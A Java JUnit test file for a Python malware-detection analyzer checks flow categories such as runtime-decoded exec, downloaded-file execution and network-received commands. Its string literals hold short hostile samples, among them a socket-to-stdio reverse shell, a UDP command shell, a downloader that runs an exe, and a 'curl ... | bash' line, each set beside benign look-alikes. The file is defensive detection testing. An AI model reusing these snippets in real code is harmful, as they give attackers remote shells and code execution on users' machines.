package dev.fang.featurize.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.analysis.FlowSite.Kind;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Each flow on a malicious-style snippet and on a benign look-alike that calls the same APIs with other values.
 * Snippets are text only: nothing is ever executed.
 */
class FlowsTest {

    private static List<FlowSite> sites(String python, Kind kind) {
        return Analyze.source(python).flowSites().stream().filter(f -> f.kind() == kind).toList();
    }

    private static String lines(String... l) {
        return String.join("\n", l) + "\n";
    }

    @Test
    void execOfRuntimeDecodedValueFollowsAssignmentsAndDecoderFunctions() {
        String bad = lines("import base64",
                "def unpack(s):",
                "    return base64.b64decode(s)",
                "blob = open('data').read()",
                "code = unpack(blob)",
                "text = code.decode()",
                "exec(text)");
        List<FlowSite> found = sites(bad, Kind.EXEC_RUNTIME_DECODED);
        assertThat(found).singleElement().satisfies(f -> {
            assertThat(f.line()).isEqualTo(7);
            assertThat(f.onLoad()).isTrue();
            assertThat(f.snippet()).startsWith("exec(text)");
        });
        String xorLoop = lines("out = ''", "for ch in open('k').read():", "    out += chr(ord(ch) ^ 7)", "eval(compile(out, 'x', 'exec'))");
        assertThat(sites(xorLoop, Kind.EXEC_RUNTIME_DECODED)).isNotEmpty();
        // benign: exec of a file's text, and exec of a constant Fang decodes itself (a payload, not a run-time decoding)
        assertThat(sites(lines("src = open('version.py').read()", "exec(src)"), Kind.EXEC_RUNTIME_DECODED)).isEmpty();
        assertThat(sites(lines("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))"), Kind.EXEC_RUNTIME_DECODED)).isEmpty();
        // benign, obfuscated: the decoded part folds to the constant '=', the value evaluated is read from a file
        String versionLine = lines("for line in open('pkg.py'):",
                "    if line.startswith('__version__'):",
                "        version = eval(line.split(bytes(b ^ 133 for b in [184]).decode('utf-8'), 1)[1])");
        assertThat(sites(versionLine, Kind.EXEC_RUNTIME_DECODED)).isEmpty();
        // the same shape with a key not known before run time is decoded at run time
        String keyed = lines("import sys", "key = int(sys.argv[1])", "blob = open('b.bin', 'rb').read()",
                "eval(bytes(b ^ key for b in blob).decode('utf-8'))");
        assertThat(sites(keyed, Kind.EXEC_RUNTIME_DECODED)).singleElement().satisfies(f -> assertThat(f.line()).isEqualTo(4));
    }

    @Test
    void helperFunctionsDecodeOnlyWhatFoldingLeft() {
        // benign, obfuscated: the helper's own literal was encoded, it folds back; what it returns is a file's text
        String encodedLiteral = lines("import base64",
                "def _read(path):",
                "    with open(path, base64.b64decode('cmI=').decode()) as f:",
                "        return f.read()",
                "code = _read('checker.py')",
                "exec(compile(code, 'checker.py', 'exec'))");
        assertThat(sites(encodedLiteral, Kind.EXEC_RUNTIME_DECODED)).isEmpty();
        // the same helper decoding what it is given does decode at run time, its verdict waiting for its body
        String decoding = lines("import base64",
                "def _read(path):",
                "    with open(path, 'rb') as f:",
                "        return base64.b64decode(f.read())",
                "code = _read('blob.bin')",
                "exec(compile(code, 'x', 'exec'))");
        assertThat(sites(decoding, Kind.EXEC_RUNTIME_DECODED)).isNotEmpty().allSatisfy(f -> {   // exec and compile
            assertThat(f.line()).isEqualTo(6);
            assertThat(f.onLoad()).isTrue();
        });
        String direct = lines("import zlib", "def unpack(b):", "    return zlib.decompress(b)", "exec(unpack(open('z', 'rb').read()))");
        assertThat(sites(direct, Kind.EXEC_RUNTIME_DECODED)).singleElement().satisfies(f -> assertThat(f.line()).isEqualTo(4));
        // lambdas too: an encoded literal in one (obfuscated benign, as alembic builds a proxy's source), or a decoder
        String encodedInLambda = lines("import base64",
                "def proxy(names, fmt):",
                "    args = fmt(names, formatvalue=lambda x: base64.b64decode('PQ==').decode() + x)",
                "    text = importlib.import_module(base64.b16decode('7465787477726170').decode()).dedent(args)",
                "    exec(text)");
        assertThat(sites(encodedInLambda, Kind.EXEC_RUNTIME_DECODED)).isEmpty();
        String lambdaDecoder = lines("import base64", "unpack = lambda s: base64.b64decode(s)", "exec(unpack(open('x').read()))");
        assertThat(sites(lambdaDecoder, Kind.EXEC_RUNTIME_DECODED)).singleElement().satisfies(f -> assertThat(f.line()).isEqualTo(3));
    }

    @Test
    void runningTheFileJustDownloadedOrWritten() {
        String bad = lines("import os, urllib.request",
                "def drop(url):",
                "    path = os.path.join(os.getenv('TEMP'), 'a.exe')",
                "    urllib.request.urlretrieve(url, path)",
                "    os.startfile(path)");
        assertThat(sites(bad, Kind.RUN_DOWNLOADED_FILE)).singleElement().satisfies(f -> {
            assertThat(f.line()).isEqualTo(5);
            assertThat(f.onLoad()).isFalse();
        });
        String written = lines("import subprocess",
                "with open('/tmp/f.py', 'w') as f:",
                "    f.write('print(1)')",
                "subprocess.call('python3 /tmp/f.py &', shell=True)");
        assertThat(sites(written, Kind.RUN_WRITTEN_FILE)).singleElement().satisfies(f -> assertThat(f.onLoad()).isTrue());
        assertThat(sites(written, Kind.RUN_DOWNLOADED_FILE)).isEmpty();
        assertThat(sites(lines("import requests", "def f(u):", "    exec(requests.get(u).text)"), Kind.RUN_DOWNLOADED_FILE)).hasSize(1);
        // benign: a file written, then only made executable; a download next to a process that runs something else
        String benign = lines("import os, subprocess, urllib.request",
                "def fetch(url, path):",
                "    urllib.request.urlretrieve(url, path)",
                "    os.system('chmod +x ' + path)",
                "    subprocess.run(['make', 'all'])");
        assertThat(sites(benign, Kind.RUN_WRITTEN_FILE)).isEmpty();
        assertThat(sites(benign, Kind.RUN_DOWNLOADED_FILE)).isEmpty();
    }

    @Test
    void commandsReceivedFromTheNetworkAreRun() {
        String udpShell = lines("from socket import socket, AF_INET, SOCK_DGRAM",
                "from subprocess import run, PIPE",
                "while True:",
                "    sock = socket(AF_INET, SOCK_DGRAM)",
                "    command, _ = sock.recvfrom(65535)",
                "    command = command.decode()",
                "    p = run(command, shell=True, stdout=PIPE)");
        assertThat(sites(udpShell, Kind.RUN_RECEIVED)).singleElement().satisfies(f -> {
            assertThat(f.line()).isEqualTo(7);
            assertThat(f.onLoad()).isTrue();
        });
        String c2 = lines("import os, requests", "def poll(url):", "    os.system(requests.get(url).text)");
        assertThat(sites(c2, Kind.RUN_RECEIVED)).singleElement().satisfies(f -> assertThat(f.onLoad()).isFalse());
        assertThat(sites(lines("import socket", "s = socket.create_connection(('h', 1))", "exec(s.recv(4096))"),
                Kind.RUN_RECEIVED)).hasSize(1);
        // benign look-alikes: a constant command beside a receive, and fetched data that is only printed
        String benign = lines("import socket, subprocess, requests",
                "def serve(conn):",
                "    data = conn.recv(1024)",
                "    subprocess.run(['git', 'status'])",
                "    conn.sendall(data)",
                "def latest(url, name):",
                "    version = requests.get(url).json()['version']",
                "    print(version)",
                "    subprocess.run(['pip', 'download', name])");
        assertThat(sites(benign, Kind.RUN_RECEIVED)).isEmpty();
    }

    @Test
    void socketWiredToStandardStreams() {
        String bad = lines("import socket, os, pty",
                "def shell(h, p):",
                "    s = socket.socket()",
                "    s.connect((h, p))",
                "    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
                "    pty.spawn('/bin/sh')");
        assertThat(sites(bad, Kind.SOCKET_STDIO)).hasSize(1);
        // benign: output capture dups a file's descriptor onto stdout, with no socket in the function
        String capture = lines("import os, tempfile", "def capture():", "    f = tempfile.TemporaryFile()", "    os.dup2(f.fileno(), 1)");
        assertThat(sites(capture, Kind.SOCKET_STDIO)).isEmpty();
    }

    @Test
    void pythonAndHiddenProcessesOnLoad() {
        String bad = lines("import subprocess, sys",
                "subprocess.Popen(['python3', '-c', 'from seccache import cache_manager'], close_fds=True)",
                "subprocess.Popen([sys.executable, 'helper.py'], creationflags=0x08000000)",
                "import os",
                "os.system('pythonw deps.pyw')");
        assertThat(sites(bad, Kind.SPAWN_PYTHON)).hasSize(3).allSatisfy(f -> assertThat(f.onLoad()).isTrue());
        assertThat(sites(bad, Kind.SPAWN_HIDDEN)).extracting(FlowSite::line).containsExactly(3, 5);
        // benign: a test helper runs the interpreter inside a function nothing calls; a plain process on load
        String benign = lines("import subprocess, sys",
                "def check():",
                "    subprocess.run([sys.executable, '-m', 'pip', '--version'])",
                "subprocess.run(['git', 'describe'])");
        assertThat(sites(benign, Kind.SPAWN_PYTHON)).singleElement().satisfies(f -> assertThat(f.onLoad()).isFalse());
        assertThat(sites(benign, Kind.SPAWN_HIDDEN)).isEmpty();
    }

    @Test
    void reconCommandsAreConstantCommandsOfReconTools() {
        String bad = lines("import subprocess, os",
                "subprocess.getoutput('dig @1.1.1.1 install.api.example.com')",
                "os.system('w' + 'hoami')",
                "os.system('net user')",
                "subprocess.Popen(['curl https://example.com/x.sh | bash'], shell=True)");
        assertThat(sites(bad, Kind.RECON_COMMAND)).extracting(FlowSite::line).containsExactly(2, 3, 4, 5);
        assertThat(sites(lines("import os, subprocess", "os.system('net start spooler')", "os.system('make install')",
                "subprocess.run(['make', 'curl wget'])"), Kind.RECON_COMMAND)).isEmpty();
    }

    @Test
    void modulesUsedWithoutImportResolve() {
        ModuleAnalysis a = Analyze.source(lines("def f():", "    return urllib.request.urlopen('https://example.com').read()"));
        assertThat(Analyze.call(a, "urllib.request.urlopen")).isNotNull();
    }

    @Test
    void bytesDecodeWithOtherAsciiCompatibleCodecs() {
        ModuleAnalysis a = Analyze.source("x = b'\\xc4\\xe3\\xba\\xc3 os.system'.decode('gb2312')\n");
        assertThat(Analyze.values(a)).contains("\u4f60\u597d os.system");
    }
}
